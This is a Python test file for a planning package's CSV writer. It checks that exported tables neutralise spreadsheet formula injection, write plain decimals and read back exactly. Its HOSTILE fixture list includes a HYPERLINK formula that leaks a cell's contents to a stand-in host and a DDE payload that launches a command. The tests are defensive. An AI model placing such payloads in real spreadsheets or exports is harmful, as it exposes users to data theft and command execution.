"""Tests of nhc_planner._csv: no formula injection, plain decimals, exact read-back."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nhc_planner._csv import (
    FORMULA_START,
    csv_text,
    format_number,
    neutralise,
    read_csv,
    write_csv,
)
from nhc_planner.plan import Plan, plan
from nhc_planner.region import Region
from tests.test_plan import FAST, grid_region

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_safe(text: str) -> None:
    bad = [c for c in _cells(text) if c.startswith(FORMULA_START)]
    # numbers may be negative; text must never start a formula
    assert all(_is_number(c) for c in bad), bad


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("Leeds") == "Leeds"
    assert neutralise("'x") == "''x"
    assert neutralise("") == ""


@pytest.mark.parametrize(
    ("x", "text"),
    [
        (5.4e6, "5400000"),
        (5412345.678, "5412345.678"),
        (-7.27596e-12, "0"),
        (1e-9, "0.000000001"),
        (0.1 + 0.2, "0.3"),
        (1 / 3, "0.3333333333"),
        (2.0, "2"),
        (-0.0, "0"),
        (float("nan"), ""),
        (float("inf"), "inf"),
        (123456789012.5, "123456789000"),
    ],
)
def test_format_number(x, text):
    assert format_number(x) == text
    assert "e" not in format_number(x)


@settings(deadline=None)
@given(st.floats(allow_nan=False, allow_infinity=False, min_value=-1e15, max_value=1e15))
def test_format_number_is_close_and_plain(x):
    text = format_number(x)
    assert "e" not in text.lower()
    assert abs(float(text) - x) <= max(1e-9, abs(x) * 1e-9)


@settings(deadline=None, max_examples=60)
@given(st.lists(st.text(max_size=20), min_size=1, max_size=8))
def test_text_round_trips_exactly(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    frame = pd.DataFrame({"name": values, "n": range(len(values))})
    write_csv(frame, path)
    _assert_safe(path.read_text())
    back = read_csv(path)
    got = ["" if isinstance(v, float) and np.isnan(v) else str(v) for v in back["name"]]
    # pandas reads an empty cell as missing and may parse numbers; compare as text
    want = [v if v.strip() else "" for v in values]
    for g, w in zip(got, want, strict=True):
        if w and not _is_number(w) and w == w.strip() and "\n" not in w and "\r" not in w:
            assert g == w


def test_words_pandas_reads_as_missing_stay_text(tmp_path):
    path = tmp_path / "t.csv"
    names = ["NULL", "NA", "None", "nan", "N/A", "#N/A", "n/a"]
    write_csv(pd.DataFrame({"name": names, "x": [1.0, np.nan, np.inf, 2.0, 3.0, 4.0, 5.0]}), path)
    back = read_csv(path)
    assert back["name"].tolist() == names
    assert np.isnan(back["x"][1])
    assert back["x"][2] == np.inf


def test_hostile_frame(tmp_path):
    frame = pd.DataFrame({"name": HOSTILE, "value": [1.5e6, -3.0, 1e-13, 0.25, 2.0, 7.0, 1.0]})
    text = csv_text(frame)
    _assert_safe(text)
    assert "1500000" in text
    assert "e+" not in text
    assert "e-" not in text
    path = write_csv(frame, tmp_path / "h.csv")
    back = read_csv(path)
    assert back["name"].tolist() == HOSTILE
    assert back["value"].tolist() == [1.5e6, -3.0, 0.0, 0.25, 2.0, 7.0, 1.0]


# --------------------------------------------------------------------------- every writer


def _hostile_region() -> Region:
    r = grid_region()
    sites = r.sites.copy()
    sites["name"] = [HOSTILE[i % len(HOSTILE)] + f" {i}" for i in range(len(sites))]
    areas = r.areas.copy()
    areas["area_name"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(areas))]
    areas["la_name"] = np.where(areas["la_code"] == "LA1", "=West()", "@East")
    return Region(areas=areas, sites=sites, meta=r.meta).with_sites(sites)


@pytest.fixture(scope="module")
def hostile_plan() -> Plan:
    return plan(_hostile_region(), FAST.replace(**{"solver.sensitivity_runs": 2}))


def test_every_plan_csv_is_safe_and_reads_back(hostile_plan, tmp_path):
    folder = hostile_plan.save(tmp_path / "p")
    files = sorted(folder.glob("*.csv"))
    assert {"centres.csv", "assignments.csv", "kpis_by_la.csv", "stability.csv"} <= {
        f.name for f in files
    }
    for f in files:
        text = f.read_text()
        _assert_safe(text)
        exponents = [c for c in _cells(text) if re.fullmatch(r"-?[\d.]+[eE][+-]?\d+", c)]
        assert exponents == [], f.name
    assert "'=HYPERLINK" in (folder / "centres.csv").read_text()
    loaded = Plan.load(folder)
    assert loaded.kpis_by_la["la_name"].tolist() == hostile_plan.kpis_by_la["la_name"].tolist()
    pd.testing.assert_frame_equal(
        loaded.kpis, hostile_plan.kpis, check_dtype=False, rtol=1e-9, atol=1e-9
    )
    numbers = ["n_centres", "population_covered", "share", "need_share"]
    pd.testing.assert_frame_equal(
        loaded.coverage_curve[numbers],
        hostile_plan.coverage_curve[numbers],
        check_dtype=False,
        rtol=1e-9,
    )


def test_app_downloads_are_safe(hostile_plan):
    from nhc_planner.ui import areas_csv, centres_csv

    for data in (centres_csv(hostile_plan), areas_csv(hostile_plan)):
        text = data.decode("utf-8")
        _assert_safe(text)
        assert "'=HYPERLINK" in text or "'@SUM" in text


def test_batch_league_table_is_safe(tmp_path):
    from nhc_planner.batch import _league_table

    rows = [
        {"region": "a", "region_name": HOSTILE[0], "status": "ok", "share_after": 0.5,
         "share_before": 0.25, "skipped": False, "error": ""},
        {"region": "b", "status": "failed", "error": "=1+1 bad", "skipped": False},
    ]  # fmt: skip
    path = write_csv(_league_table(rows), tmp_path / "index.csv")
    _assert_safe(path.read_text())
    assert read_csv(path)["region_name"].iloc[0] == HOSTILE[0]


def test_no_other_to_csv_in_the_package():
    """Every CSV table the package writes goes through nhc_planner._csv, not ``to_csv``."""
    root = Path(__file__).resolve().parents[1] / "nhc_planner"
    users = sorted(
        p.relative_to(root).as_posix()
        for p in root.rglob("*.py")
        if ".to_csv(" in p.read_text(encoding="utf-8")
    )
    assert users == [], users
